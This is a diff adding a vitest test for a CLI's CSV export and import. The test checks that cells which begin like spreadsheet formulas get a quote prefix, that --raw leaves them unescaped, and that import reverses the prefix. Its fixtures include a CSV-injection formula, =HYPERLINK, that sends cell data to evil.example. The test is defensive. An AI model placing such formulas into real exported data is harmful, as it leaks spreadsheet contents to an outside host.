@@ -4,6 +4,7 @@ import { join } from "node:path";
 import { afterEach, describe, expect, it, vi } from "vitest";
 import { main } from "../../src/cli/main.ts";
 import { BlobMedia, type Row } from "../../src/index.ts";
+import { parseCsv } from "../../src/tables/csv.ts";
 import { openTables, type TablesService } from "../../src/tables/index.ts";
 import { type Finished, runKiln } from "../cli/run-kiln.ts";
 import { type TestDatabase, testDialects } from "../support/dialects.ts";
@@ -119,6 +120,68 @@ for (const dialect of await testDialects()) {
       expect(copied.map(comparable)).toEqual(original.map(comparable));
       expect((copied[0]!.owner as Row).email).toBe("ada@example.com");
       await service.close();
+    });
+
+    it("export neutralises text a spreadsheet would run (--raw opts out); import undoes it", async () => {
+      const { dir, kiln, open } = await appFolder();
+      const titles = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "\r=1",
+        "'=already quoted",
+        "'plain",
+        "plain",
+      ];
+      let service = await open();
+      for (const title of titles) await service.tables.tasks.addRow({ title, points: -3 });
+      const viaApi = (await service.tables.tasks.toCsv()).getText();
+      const rawViaApi = (await service.tables.tasks.toCsv({ raw: true })).getText();
+      await service.close();
+
+      const file = join(dir, "tasks.csv");
+      expect((await kiln("tables", "export", "tasks", "--out", file)).code).toBe(0);
+      const csv = readFileSync(file, "utf8");
+      expect(csv).toBe(viaApi);
+      // Every title cell starts with a ' or a letter: nothing a spreadsheet runs.
+      const cells: string[] = [];
+      const chunks = (async function* () {
+        yield csv;
+      })();
+      for await (const record of parseCsv(chunks)) cells.push(record.cells[1]!.text);
+      expect(cells.slice(1)).toEqual([
+        `'${titles[0]}`,
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'\t=1",
+        "'\r=1",
+        "''=already quoted",
+        "'plain",
+        "plain",
+      ]);
+      expect(csv).toContain(",-3,"); // numbers are numbers: never prefixed
+
+      const rawFile = join(dir, "raw.csv");
+      expect((await kiln("tables", "export", "tasks", "--raw", "--out", rawFile)).code).toBe(0);
+      expect(readFileSync(rawFile, "utf8")).toBe(rawViaApi);
+      expect(rawViaApi).toContain('"=HYPERLINK(');
+
+      const titlesOf = async () => {
+        service = await open();
+        const rows = await service.tables.copy.search().toArray();
+        await service.tables.copy.deleteAllRows();
+        await service.close();
+        return rows.map((row) => row.title);
+      };
+      expect((await kiln("tables", "import", "copy", file)).code).toBe(0);
+      expect(await titlesOf()).toEqual(titles);
+      expect((await kiln("tables", "import", "copy", rawFile, "--raw")).code).toBe(0);
+      expect(await titlesOf()).toEqual(titles);
+      expect((await kiln("tables", "import", "copy", file, "--raw")).code).toBe(0);
+      expect((await titlesOf())[0]).toBe(`'${titles[0]}`);
     });
 
     it("list, show, --help and exit codes", async () => {
